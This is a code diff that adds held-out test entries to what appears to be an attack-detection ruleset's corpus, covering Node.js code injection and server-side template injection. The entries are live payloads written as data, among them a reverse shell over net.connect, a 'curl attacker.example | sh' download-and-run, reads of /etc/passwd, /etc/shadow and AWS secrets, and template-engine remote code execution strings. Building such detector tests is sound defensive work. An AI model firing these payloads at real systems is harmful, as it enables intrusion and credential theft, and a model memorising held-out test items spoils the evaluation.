@@ -1051,6 +1051,77 @@ h('user-agent', 'Mozilla/5.0 (compatible; Nuclei)', 'Nuclei compatible');
 h('user-agent', 'sqlmap/1.6.12#stable (https://sqlmap.org)', 'sqlmap 1.6');
 p('/.git/logs/HEAD', 'git logs probe');
 
+// ---------------------------------------------------------------------------------------------
+// Round 4 (ruleset 2.0.0): the two Node-relevant categories, written by someone other than the
+// author of their detectors and before those were finished (held out).
+category = 'js_injection';
+q('expr', "require('child_process').execSync('id').toString()", 'child_process execSync', '/calc');
+q('expr', 'require("child_process").exec("curl http://attacker.example/x | sh")', 'child_process exec with double quotes', '/calc');
+q('q', "process.mainModule.require('child_process').execSync('cat /etc/passwd')", 'mainModule require', '/eval');
+q('filter', "this.constructor.constructor('return process')().mainModule.require('fs').readdirSync('.')", 'constructor chain to process');
+q('sort', "[].constructor.constructor('return this.process.env')()", 'array constructor Function');
+q('x', "global.process.mainModule.constructor._load('child_process').exec('id')", 'global process _load');
+q('x', "globalThis.process.kill(globalThis.process.pid)", 'globalThis process kill');
+q('callback', "res.end(require('fs').readFileSync('/etc/passwd'))", 'response with file contents', '/jsonp');
+q('code', "require('fs').writeFileSync('/tmp/pwn.js', 'x')", 'fs write');
+q('data', "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id']})", 'process.binding spawn_sync');
+q('v', "Function('return process')().exit()", 'Function constructor then exit');
+q('v', "new Function('return require')()('child_process').execSync('id')", 'new Function require');
+q('v', "import('child_process').then(m=>m.execSync('id'))", 'dynamic import child_process');
+q('v', "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdpZCcp','base64').toString())", 'eval of base64 buffer');
+q('v', "';require('child_process').exec('sleep 10');'", 'string breakout into require');
+q('name', "\"+require('child_process').execSync('whoami')+\"", 'concatenation breakout');
+q('name', "${require('child_process').execSync('id')}", 'template literal require');
+q('v', "vm.runInNewContext('this.constructor.constructor(\"return process\")()')", 'vm escape');
+q('v', "require('net').connect(4444,'203.0.113.9',function(){this.pipe(require('child_process').spawn('/bin/sh').stdin)})", 'reverse shell with net');
+q('v', "process.env.AWS_SECRET_ACCESS_KEY", 'environment read');
+q('v', "child_process.spawnSync('ls',['-la'])", 'spawnSync');
+q('v', "setTimeout('require(\"child_process\").exec(\"id\")',0)", 'setTimeout string');
+json('{"filter":{"$where":"1"},"expr":"require(\'child_process\').execSync(\'id\')"}', 'require in JSON expression', '/api/v1/rules');
+json('{"template":"x","options":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}', 'EJS outputFunctionName', '/api/v1/render');
+json('{"code":"this.constructor.constructor(\'return process\')().exit()"}', 'sandbox escape in JSON', '/api/v1/sandbox');
+json('{"script":"global.process.mainModule.require(\'fs\').readFileSync(\'/etc/shadow\',\'utf8\')"}', 'read shadow', '/api/v1/scripts');
+form({ formula: "=require('child_process').exec('calc')" }, 'formula field', '/sheets');
+form({ q: "1;return process.env" }, 'return process.env', '/search');
+h('x-callback', "require('child_process').exec('nslookup x.attacker.example')", 'require in custom header');
+ck('prefs', "{\"theme\":\"require('child_process').execSync('id')\"}", 'require in JSON cookie');
+q('v', "require ( 'child_process' ) . exec ( 'id' )", 'spaced require');
+q('v', "require(`child_process`).execSync(`id`)", 'backtick require');
+
+category = 'ssti';
+q('name', '{{7*7}}', 'Jinja/Twig arithmetic probe', '/greet');
+q('name', '${7*7}', 'EL/Freemarker probe', '/greet');
+q('name', '<%= 7*7 %>', 'EJS/ERB probe', '/greet');
+q('name', '#{7*7}', 'Pug/Ruby interpolation probe', '/greet');
+q('name', "{{7*'7'}}", 'Jinja vs Twig discriminator', '/greet');
+q('name', '${{7*7}}', 'dollar double brace probe', '/greet');
+q('name', '*{7*7}', 'Thymeleaf selection probe', '/greet');
+q('name', '[[${7*7}]]', 'Thymeleaf inline probe', '/greet');
+q('name', '@(7*7)', 'Razor probe', '/greet');
+q('name', '{{ 1337 * 1337 }}', 'spaced arithmetic', '/greet');
+q('q', "{{''.__class__.__mro__[1].__subclasses__()}}", 'Jinja MRO walk');
+q('q', "{{config.items()}}", 'Flask config dump');
+q('q', "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", 'Jinja globals to os');
+q('q', "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", 'Flask request globals');
+q('q', "{% import os %}{{ os.system('id') }}", 'Jinja statement import');
+q('q', "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}", 'Nunjucks range constructor');
+q('q', "{{constructor.constructor('return process')()}}", 'Handlebars/Angular-like constructor');
+q('q', '<%= global.process.mainModule.require("child_process").execSync("id") %>', 'EJS RCE');
+q('q', '#{global.process.mainModule.require("child_process").execSync("id")}', 'Pug RCE');
+q('q', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'Spring EL runtime');
+q('q', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', 'Freemarker Execute');
+q('q', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))', 'Velocity runtime');
+q('q', '{{#with "s" as |string|}}{{#with "e"}}{{/with}}{{/with}}', 'Handlebars with-gadget');
+q('q', "{{ '/etc/passwd' | file_excerpt(1,30) }}", 'Twig filter file read');
+q('q', "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", 'Twig register callback');
+json('{"subject":"Hello {{7*7}}","body":"x"}', 'probe in JSON e-mail template', '/api/v1/mail/preview');
+json('{"title":"<%= process.env.SECRET %>"}', 'EJS env read', '/api/v1/pages');
+form({ greeting: '{{4*4}}[[5*5]]' }, 'polyglot probe', '/cards');
+h('x-forwarded-host', '{{7*7}}.example.com', 'probe in a host header');
+ck('name', '${7*191}', 'probe in a cookie');
+q('q', '{{ [].__class__.__base__.__subclasses__() }}', 'list base subclasses');
+q('q', '%{(#a=@java.lang.Runtime@getRuntime().exec("id"))}', 'OGNL expression');
+
 export function attackEntries(): CorpusEntry[] {
   return out;
 }
